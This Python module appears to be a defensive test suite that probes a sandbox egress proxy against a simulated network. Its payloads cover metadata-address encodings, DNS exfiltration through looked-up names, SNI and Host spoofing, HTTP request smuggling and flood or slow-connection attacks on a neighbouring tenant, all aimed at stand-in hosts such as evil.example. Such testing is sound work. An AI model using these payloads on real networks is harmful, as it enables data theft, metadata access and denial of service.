"""Ways around the rules of an open network, tried against an Internet of the attack's own (outside.py).

Each case sends a word that is used once. It got through if the word has come to a server, or into a name that was
looked up; where no answer at all may come, an answer of a server is enough.
"""

import asyncio
import base64
import contextlib
import os
import secrets
import signal
import struct
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, replace
from pathlib import Path
from typing import Final

from warren.model.network import MAX_RULES, NO_NETWORK, NetworkRules
from warren.sandboxes.network.egress import OpenableNetwork
from warren_attack.probe import (
    Group,
    Probe,
    ProbeResult,
    ProbeVerdict,
    contained,
    got_through,
    judged,
    not_applicable,
    undecided,
)
from warren_attack.warren.arena import Arena
from warren_attack.warren.outside import ALLOWED, BY_ADDRESS, DENIED, METADATA, OTHER, OWN, PRIVATE, SILENT, Outside

_G: Final = Group.EGRESS
LISTED: Final = NetworkRules(
    allow=("allowed.example", "port.example:443", "*.wild.example", "*.evil.example", f"{BY_ADDRESS}:8080")
)
INTERNET: Final = NetworkRules(internet=True, deny=("denied.example", "*.denied.example", DENIED))
WORD: Final = b"WORD"
_HONEST_S: Final = 1.0
_PATIENCE_S: Final = 20.0
_MANY: Final = (f"*{SILENT}", *(f"*.b{number}.example" for number in range(900)))


def hello(name: bytes | None, *others: bytes) -> bytes:
    """A TLS hello for a name, or for several, or for none."""
    names = [each for each in (name, *others) if each is not None]
    listed = b"".join(b"\0" + len(each).to_bytes(2, "big") + each for each in names)
    extension = struct.pack(">HHH", 0, len(listed) + 2, len(listed)) + listed if names else b""
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + len(extension).to_bytes(2, "big") + extension
    message = b"\1" + len(body).to_bytes(3, "big") + body
    return b"\x16\3\1" + len(message).to_bytes(2, "big") + message


def request(*lines: bytes, first: bytes = b"GET /WORD HTTP/1.1", end: bytes = b"\r\n", body: bytes = b"") -> bytes:
    return end.join((first, *lines, b"", b"")) + body


@dataclass(frozen=True, slots=True)
class Case:
    """`lets_answers`: a server may answer, since only a part of what is sent is forbidden. WORD stands for the word."""

    id: str
    tries: str
    host: str
    port: int
    pieces: Sequence[bytes] = (b"WORD",)
    rules: NetworkRules = LISTED
    udp: bool = False
    lets_answers: bool = False
    times: int = 1


async def open_outside(arena: Arena) -> Outside | ProbeResult:
    if why := arena.why_no_egress():
        return not_applicable(f"sandboxes cannot be given a network here: {why}")
    return await arena.outside()


def _probe(case: Case) -> Probe[Arena]:
    async def run(arena: Arena) -> ProbeResult:
        outside = await open_outside(arena)
        if isinstance(outside, ProbeResult):
            return outside
        word = secrets.token_hex(8)
        pieces = [encoded(piece.replace(WORD, word.encode())) for piece in case.pieces]
        host = case.host.replace("WORD", word)
        async with outside.opened(arena.sandbox, case.rules):
            outcome = await arena.inside(
                "egress:talk", host=host, port=case.port, pieces=pieces, udp=case.udp, times=case.times
            )
            if await outside.has_got(word):
                return got_through(f"it came out ({outcome.evidence})")
        if case.lets_answers and outcome.verdict is ProbeVerdict.GOT_THROUGH:
            return contained(f"only the allowed part came out ({outcome.evidence})")
        return outcome

    return Probe(case.id, _G, case.tries, run)


def encoded(data: bytes) -> str:
    return base64.b64encode(data).decode()


def _cases() -> Iterator[Case]:
    yield from _addresses()
    yield from _names()
    yield from _tls()
    yield from _http()
    yield from _datagrams()


def _addresses() -> Iterator[Case]:
    get = request(b"Host: allowed.example")
    yield Case("raw-address", "connect to an address that no rule names", OTHER, 443, (hello(b"allowed.example"),))
    yield Case("raw-address-http", "the same by HTTP, with an allowed Host", OTHER, 80, (get,))
    yield Case("raw-address-ssh", "the same on a port whose server speaks first", OTHER, 22)
    yield Case("address-of-a-name", "connect to an allowed name's own address", "93.184.216.34", 443)
    yield Case("other-port", "use an allowed address on another port", BY_ADDRESS, 5432)
    yield Case("other-port-of-name", "use an allowed name on another port", "port.example", 80, (get,))
    yield Case("mapped-address", "connect to an address in its IPv6 form", f"::ffff:{OTHER}", 22)
    yield Case("denied-address", "connect to a denied address", DENIED, 22, rules=INTERNET)
    yield Case("denied-name", "connect to a denied name", "denied.example", 22, rules=INTERNET)
    yield Case("below-denied", "connect to a name below a denied one", "below.denied.example", 22, rules=INTERNET)
    yield Case(
        "denied-name-on-address",
        *("name a denied host to another address", OTHER, 443, (hello(b"denied.example"), b"WORD"), INTERNET),
    )
    yield Case(
        "denied-host-on-address",
        *("ask another address for a denied host", OTHER, 80, (request(b"Host: denied.example"),), INTERNET),
    )
    for name, address in (
        ("metadata", METADATA),
        ("metadata-decimal", str(int.from_bytes(bytes(map(int, METADATA.split("."))), "big"))),
        ("metadata-octal", "0251.0376.0251.0376"),
        ("metadata-hexadecimal", "0xa9fea9fe"),
        ("metadata-short", "169.16689662"),
        ("metadata-mapped", f"::ffff:{METADATA}"),
        ("cloud-service", "168.63.129.16"),
        ("other-metadata", "100.100.100.200"),
        ("carrier", "100.64.0.1"),
        ("private-10", PRIVATE),
        ("private-172", "172.16.0.1"),
        ("private-192", "192.168.0.1"),
        ("documentation", "192.0.2.1"),
        ("own-address", OWN),
        ("unspecified", "0.0.0.0"),
        ("broadcast", "255.255.255.255"),
        ("multicast", "224.0.0.1"),
        ("reserved", "240.0.0.1"),
        ("public-6", "2606:4700::1111"),
        ("metadata-6", "fd00:ec2::254"),
        ("nat64", "64:ff9b::10.99.0.7"),
        ("synthetic", "198.18.77.77"),
    ):
        yield Case(
            f"to-{name}",
            *(f"with the Internet open, reach {address}", address, 8080),
            rules=INTERNET,
        )


def _names() -> Iterator[Case]:
    for name in (
        *("private", "loopback", "metadata", "zero", "mapped", "nat64", "loopback6", "local6", "link6", "carrier"),
        *("own", "many", "benchmark"),
    ):
        yield Case(
            f"name-of-{name}", f"an allowed name that leads to {name}", f"{name}.evil.example", 8080, rules=LISTED
        )
    yield Case("rebinding", "a name that changes its address", "rebind.evil.example", 8080, times=12)
    yield Case("above-wildcard", "reach the name that a wildcard is below", "wild.example", 22)
    yield Case("unknown-name", "look up a name that no rule knows, with data in it", "word-WORD.other.example", 80)
    yield Case("long-name", "look up a very long name with data in it", f"{'WORD.' * 12}other.example", 80)
    yield Case("proxy-localhost", "reach localhost of the proxy by its name", "localhost.", 8080, rules=INTERNET)


def _tls() -> Iterator[Case]:
    allowed = b"allowed.example"
    for name, tries, pieces in (
        ("sni-other", "another name in TLS than was looked up", (hello(b"other.example"), WORD)),
        ("sni-none", "no name in TLS", (hello(None), WORD)),
        ("sni-nul", "a name with a NUL byte", (hello(b"allowed.example\0.other.example"), WORD)),
        ("sni-two", "two names in TLS", (hello(allowed, b"other.example"), WORD)),
        ("sni-two-other-first", "two names, the allowed one last", (hello(b"other.example", allowed), WORD)),
        ("sni-address", "an address as the name in TLS", (hello(OTHER.encode()), WORD)),
        ("sni-long", "a name that only begins as an allowed one", (hello(b"allowed.example.other.example"), WORD)),
        ("sni-split", "another name, in pieces", (*(bytes([byte]) for byte in hello(b"other.example")), WORD)),
        ("tls-not", "something else than TLS on port 443", (b"SSH-2.0-WORD\r\n",)),
        ("tls-http", "HTTP on port 443", (request(b"Host: allowed.example"),)),
        ("tls-old", "a hello of SSL 2", (b"\x80\x2e\x01\x03\x01\x00\x15\x00\x00\x00\x10" + WORD,)),
        ("tls-short", "a hello whose lengths lie", (b"\x16\3\1\0\x05\1\0\xff\xff\3" + WORD,)),
    ):
        yield Case(name, tries, "allowed.example", 443, pieces)


def _http() -> Iterator[Case]:
    fine, other = b"Host: allowed.example", b"Host: other.example"
    first = request(fine, first=b"GET / HTTP/1.1")
    hidden = request(other)
    chunked = b"0\r\n\r\n" + hidden
    for name, tries, pieces in (
        ("host-other", "another Host than was looked up", (request(other),)),
        ("host-none", "no Host", (request(b"Accept: */*"),)),
        ("host-old", "HTTP 1.0 without a Host", (request(first=b"GET /WORD HTTP/1.0"),)),
        ("host-two", "two Hosts", (request(fine, other),)),
        ("host-port", "a Host with another port", (request(b"Host: allowed.example:8080"),)),
        ("host-nul", "a Host with a NUL byte", (request(b"Host: allowed.example\0.other.example"),)),
        ("host-space", "a space before the colon", (request(fine, b"Host : other.example"),)),
        ("host-folded", "a Host on two lines", (request(b"Host:", b" other.example"),)),
        ("host-bare-lines", "lines that end in a newline only", (request(fine, other, end=b"\n"),)),
        ("host-user", "a Host with a user before it", (request(b"Host: allowed.example@other.example"),)),
        (
            "uri-absolute",
            "an absolute URI of another host",
            (request(fine, first=b"GET http://other.example/WORD HTTP/1.1"),),
        ),
        (
            "connect-other",
            "CONNECT to another host",
            (request(fine, first=b"CONNECT other.example:443 HTTP/1.1"), WORD),
        ),
        (
            "connect-self",
            "CONNECT, and then anything",
            (request(fine, first=b"CONNECT allowed.example:80 HTTP/1.1"), WORD),
        ),
        ("http-2", "HTTP/2 from the first byte", (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + WORD,)),
        ("http-not", "something else than HTTP on port 80", (b"\0\1\2\3" + WORD,)),
        ("second-request", "another Host in the second request", (first, hidden)),
        ("pipelined", "the same, in one piece", (first + hidden,)),
        (
            *("smuggled-length", "a request hidden by two lengths"),
            (
                request(
                    fine, b"Content-Length: 5", b"Content-Length: 60", first=b"POST / HTTP/1.1", body=b"abcde" + hidden
                ),
            ),
        ),
        (
            *("smuggled-chunks", "a request hidden by a length and chunks"),
            (
                request(
                    fine, b"Content-Length: 4", b"Transfer-Encoding: chunked", first=b"POST / HTTP/1.1", body=chunked
                ),
            ),
        ),
        (
            *("smuggled-coding", "a request hidden by an unknown coding"),
            (request(fine, b"Transfer-Encoding: xchunked", first=b"POST / HTTP/1.1", body=chunked),),
        ),
        (
            *("after-chunks", "another Host after a body of chunks"),
            (request(fine, b"Transfer-Encoding: chunked", first=b"POST / HTTP/1.1", body=chunked),),
        ),
        (
            *("upgrade", "anything after a request for an upgrade that is refused"),
            (request(fine, b"Connection: Upgrade", b"Upgrade: h2c", first=b"GET / HTTP/1.1"), hidden),
        ),
    ):
        yield Case(name, tries, "allowed.example", 80, pieces, lets_answers=True)
    for name, tries, sent in (
        ("", "", request(other)),
        ("-empty-line", ", after an empty line", b"\r\n" + request(other)),
        ("-lower-case", ", in lower case", request(other, first=b"get /WORD HTTP/1.1")),
        ("-method", ", with a method of one's own", request(other, first=b"FETCH /WORD HTTP/1.1")),
        ("-http-2", ", in HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + WORD),
    ):
        yield Case(
            f"host-other-port{name}",
            *(f"another Host on a port that is none of HTTP's{tries}", "allowed.example", 8080, (sent,)),
            lets_answers=True,
        )


def _datagrams() -> Iterator[Case]:
    yield Case("quic", "QUIC to an allowed name", "allowed.example", 443, udp=True)
    yield Case("udp-address", "a datagram to an address", OTHER, 5000, rules=INTERNET, udp=True)
    yield Case("udp-dns-data", "data instead of a question to port 53", OTHER, 53, (b"WORD" * 20,), INTERNET, udp=True)
    yield Case("tcp-dns-data", "data instead of a question, by TCP", OTHER, 53, (b"\0\x40" + b"WORD" * 16,), INTERNET)


# -- names


def question(name: bytes, kind: int = 1) -> bytes:
    labels = b"".join(bytes([len(label)]) + label for label in name.split(b".")) + b"\0"
    return struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">2H", kind, 1)


def _asking(
    id: str, tries: str, names: Sequence[tuple[bytes, int]], server: str = "127.0.0.1", tcp: bool = False
) -> Probe[Arena]:
    async def run(arena: Arena) -> ProbeResult:
        outside = await open_outside(arena)
        if isinstance(outside, ProbeResult):
            return outside
        word = secrets.token_hex(8)
        questions = [encoded(question(name.replace(WORD, word.encode()), kind)) for name, kind in names]
        async with outside.opened(arena.sandbox, LISTED):
            outcome = await arena.inside("egress:ask", server=server, questions=questions, tcp=tcp)
            if await outside.has_got(word):
                return got_through("the question was passed on")
        return outcome

    return Probe(id, _G, tries, run)


_TYPES: Final = (2, 5, 6, 10, 12, 15, 16, 28, 33, 43, 64, 65, 255, 257)
_UNKNOWN: Final = [(b"WORD.other.example", 1)]
_ASKED: Final = (
    _asking(
        "dns-types", "ask for every other kind of record of an allowed name", [(b"allowed.example", k) for k in _TYPES]
    ),
    _asking("dns-data", "carry data in names that no rule knows", [(b"WORD.%d.example" % n, 1) for n in range(20)]),
    _asking("dns-tcp", "the same by TCP", _UNKNOWN, tcp=True),
    _asking("dns-other-server", "ask another name server", _UNKNOWN, server="8.8.8.8"),
    _asking("dns-other-server-tcp", "ask another name server by TCP", _UNKNOWN, server="9.9.9.9", tcp=True),
    _asking("dns-nul", "ask for names with strange bytes", [(b"allowed.example\0WORD", 1), (b"WORD\xff.example", 1)]),
    _asking(
        "dns-text", "ask for texts, with data in the name", [(b"WORD.wild.example", 16), (b"WORD.evil.example", 16)]
    ),
)


# -- others, races, load


async def _other_sandbox(arena: Arena) -> ProbeResult:
    outside = await open_outside(arena)
    if isinstance(outside, ProbeResult):
        return outside
    port, token = 20000 + secrets.randbelow(20000), secrets.token_hex(8)
    async with (
        outside.opened(arena.neighbour, INTERNET),
        outside.opened(arena.sandbox, INTERNET),
        arena.holding(arena.neighbour, "neighbour:hold_sockets", seconds=30, token=token, port=port),
    ):
        return await arena.inside("neighbour:reach_sockets", names=[token], ports=[port])


async def _honest(arena: Arena, outside: Outside) -> ProbeResult:
    """Whether a neighbour, another tenant, gets through the proxy in time, to a name that must be looked up.

    What the programs on its way wait for a processor does not count: else a busy machine would decide.
    """
    name = f"n{secrets.token_hex(4)}.wild.example"
    outside.names[name] = lambda: (ALLOWED,)
    piece, waited = encoded(request(b"Host: " + name.encode())), _ready_s(outside)
    found = await arena.inside(
        "egress:reach", box=arena.neighbour, host=name, port=80, piece=piece, within_s=_PATIENCE_S
    )
    waited = _ready_s(outside) - waited
    del outside.names[name]
    if found.verdict is not ProbeVerdict.CONTAINED:
        return found if waited < _PATIENCE_S else undecided(f"{found.evidence}; no processor for {waited:.1f} s")
    is_in_time = float(found.evidence.split()[0]) <= _HONEST_S + waited
    return judged(is_in_time, f"{found.evidence}, beside {waited:.1f} s without a processor")


def _ready_s(outside: Outside) -> float:
    """Returns for how many seconds the proxy and the servers outside, which are here, were ready and did not run."""
    waited_ns = 0
    for pid in (outside.egress.pid, os.getpid()):
        with contextlib.suppress(OSError, IndexError):  # it has ended, or the kernel does not tell
            for thread in Path(f"/proc/{pid}/task").iterdir():
                waited_ns += int((thread / "schedstat").read_text().split()[1])
    return waited_ns / 1e9


def _beside(
    id: str, tries: str, attack: str, *, allowed: Sequence[str] = (), sandboxes: int = 1, **arguments: object
) -> Probe[Arena]:
    """Attacks from so many sandboxes of a tenant, who may reach `allowed` too. The neighbour is another tenant."""

    async def run(arena: Arena) -> ProbeResult:
        outside = await open_outside(arena)
        if isinstance(outside, ProbeResult):
            return outside
        rules = replace(LISTED, allow=(*LISTED.allow, *allowed))
        attackers = [arena.sandbox, *[(await arena.fresh())[0] for _ in range(sandboxes - 1)]]
        async with contextlib.AsyncExitStack() as stack:
            await stack.enter_async_context(outside.opened(arena.neighbour, LISTED))
            for box in attackers:
                await stack.enter_async_context(outside.opened(box, rules, tenant="attacker"))
            before = await _honest(arena, outside)
            if before.verdict is not ProbeVerdict.CONTAINED:
                return undecided(f"the neighbour has no network before the attack: {before.evidence}")
            for box in attackers:
                await stack.enter_async_context(arena.holding(box, attack, **arguments))
            await asyncio.sleep(1)
            return await _honest(arena, outside)

    return Probe(id, _G, tries, run)


async def _long_rules(arena: Arena) -> ProbeResult:
    """The attacker's rules are replaced by the longest there are, again and again."""
    outside = await open_outside(arena)
    if isinstance(outside, ProbeResult):
        return outside
    names = [f"{number}.{'ä' * 30}.{'漢' * 10}.example:443" for number in range(MAX_RULES)]
    both = [
        await asyncio.to_thread(NetworkRules, allow=tuple(f"{first}{each}" for each in names), deny=tuple(names))
        for first in "ab"
    ]

    async def replace_rules(network: OpenableNetwork) -> None:
        while True:
            for rules in both:
                await network.set(rules)

    async with outside.opened(arena.neighbour, LISTED), outside.opened(arena.sandbox, LISTED) as network:
        pid = outside.egress.pid
        replacing = asyncio.create_task(replace_rules(network))
        try:
            await asyncio.sleep(1)
            during = await _honest(arena, outside)
        finally:
            replacing.cancel()
            await asyncio.wait([replacing])
        if outside.egress.pid != pid:
            return got_through("the process of all networks has ended")
    return during


async def _changes(arena: Arena) -> ProbeResult:
    """Rules are replaced while the sandbox connects: once they are closed, nothing may come any more."""
    outside = await open_outside(arena)
    if isinstance(outside, ProbeResult):
        return outside
    word = secrets.token_hex(8)
    targets = [["allowed.example", 80, encoded(request(b"Host: allowed.example", b"X-Word: " + word.encode()))]]
    async with (
        outside.opened(arena.sandbox, LISTED) as network,
        arena.holding(arena.sandbox, "egress:hammer", targets=targets, seconds=20),
    ):
        came = 0
        for _ in range(12):
            await network.set(LISTED)
            await asyncio.sleep(0.3)
            came += word.encode() in outside.received
            await network.set(NO_NETWORK)
            await asyncio.sleep(0.05)  # what was under way in the attack's own servers
            outside.received.clear()
            await asyncio.sleep(0.2)
            if word.encode() in outside.received:
                return got_through("a connection was made after the rules had been closed")
    return contained(f"12 changes, it came through in {came} of the open times") if came else undecided("nothing came")


async def _killed(arena: Arena) -> ProbeResult:
    """The proxy is killed under traffic: nothing that is not allowed comes out, and afterwards all is as before."""
    outside = await open_outside(arena)
    if isinstance(outside, ProbeResult):
        return outside
    good, bad = secrets.token_hex(8), secrets.token_hex(8)
    targets = [
        ["allowed.example", 80, encoded(request(b"Host: allowed.example", b"X-Word: " + good.encode()))],
        [OTHER, 8080, encoded(bad.encode())],
        [PRIVATE, 8080, encoded(bad.encode())],
    ]
    async with (
        outside.opened(arena.sandbox, LISTED),
        arena.holding(arena.sandbox, "egress:hammer", targets=targets, seconds=30),
    ):
        for _ in range(4):
            await asyncio.sleep(0.5)
            if pid := outside.egress.pid:
                os.kill(pid, signal.SIGKILL)
        for _ in range(100):
            outside.received[:] = outside.received.replace(good.encode(), b"")
            await asyncio.sleep(0.1)
            if good.encode() in outside.received:
                break
        else:
            return undecided("the network did not come back within 10 s")
        if bad.encode() in outside.received:
            return got_through("what no rule allows came out while the proxy was started again")
    return contained("refused while it was away; then the same rules held")


def _rebinding(probe: Probe[Arena]) -> Probe[Arena]:
    """The name is private in every second answer, and denied in the others: none of them may be used."""

    async def run(arena: Arena) -> ProbeResult:
        outside = await open_outside(arena)
        if isinstance(outside, ProbeResult):
            return outside
        answers = [(PRIVATE,), ("127.0.0.1",), (METADATA,), (OWN,)]
        turn = iter(range(1 << 30))
        outside.names["rebind.evil.example"] = lambda: answers[next(turn) % len(answers)]
        return await probe.attack(arena)

    return Probe(probe.id, probe.group, probe.tries, run)


async def _control(arena: Arena) -> ProbeResult:
    """What is allowed works: else all other probes would say nothing."""
    outside = await open_outside(arena)
    if isinstance(outside, ProbeResult):
        return outside
    async with outside.opened(arena.sandbox, LISTED):
        for host, port, piece in (
            ("allowed.example", 80, request(b"Host: allowed.example")),
            ("allowed.example", 443, hello(b"allowed.example")),
            ("deep.wild.example", 22, b""),
            (BY_ADDRESS, 8080, b""),
        ):
            outcome = await arena.inside(
                "egress:reach", host=host, port=port, piece=encoded(piece), within_s=_PATIENCE_S
            )
            if outcome.verdict is not ProbeVerdict.CONTAINED:
                return undecided(f"{host}:{port} is allowed but was {outcome.evidence}")
    return contained("what is allowed is reached, so that the others mean something")


PROBES: tuple[Probe[Arena], ...] = (
    Probe("egress-control", _G, "nothing: see that what is allowed is reached", _control),
    *(_rebinding(probe) if probe.id == "rebinding" else probe for probe in map(_probe, _cases())),
    *_ASKED,
    Probe("other-sandbox", _G, "reach another sandbox whose network is open", _other_sandbox),
    _beside(
        "half-open",
        "hold all connections there are, silently, beside a neighbour",
        "egress:hold",
        host="allowed.example",
        port=80,
        count=400,
    ),
    _beside(
        "slow-hello",
        "hold 500 hellos of one byte, beside a neighbour",
        "egress:hold",
        host="allowed.example",
        port=443,
        count=500,
        piece=encoded(b"\x16"),
    ),
    _beside(
        "slow-head",
        "send heads that take long to read, beside a neighbour",
        "egress:pour",
        host="allowed.example",
        port=80,
        first=encoded(request(b"Host: allowed.example", b"X: a" + b" " * 60_000 + b"b")),
        more=encoded(request(b"Host: allowed.example", b"X: a" + b" " * 60_000 + b"b")),
    ),
    _beside(
        "tiny-chunks",
        "send bodies of very small chunks, beside a neighbour",
        "egress:pour",
        host="allowed.example",
        port=80,
        first=encoded(request(b"Host: allowed.example", b"Transfer-Encoding: chunked", first=b"POST / HTTP/1.1")),
        more=encoded(b"1\r\nx\r\n" * 10_000),
    ),
    _beside(
        "small-requests",
        "send very many small requests, beside a neighbour",
        "egress:pour",
        host="allowed.example",
        port=80,
        first=encoded(request(b"Host: allowed.example")),
        more=encoded(request(b"Host: allowed.example") * 2000),
    ),
    _beside(
        "many-questions",
        "ask without end over UDP and TCP, with 900 rules, from six sandboxes, beside a neighbour",
        "egress:ask_much",
        sandboxes=6,
        allowed=_MANY,
        name="flood",
        tcp=True,
    ),
    _beside(
        "silent-names",
        "connect to 420 names whose server never answers, beside a neighbour who looks names up",
        "egress:look_up_much",
        allowed=_MANY,
        below=SILENT,
        port=22,
        count=420,
    ),
    Probe("long-rules", _G, "set 2,000 international names again and again, beside a neighbour", _long_rules),
    _beside("dns-flood", "ask for names without end, beside a neighbour", "egress:ask_much", name="flood"),
    Probe("rule-changes", _G, "connect while the rules are closed", _changes),
    Probe("proxy-killed", _G, "connect while the proxy is killed and started again", _killed),
)
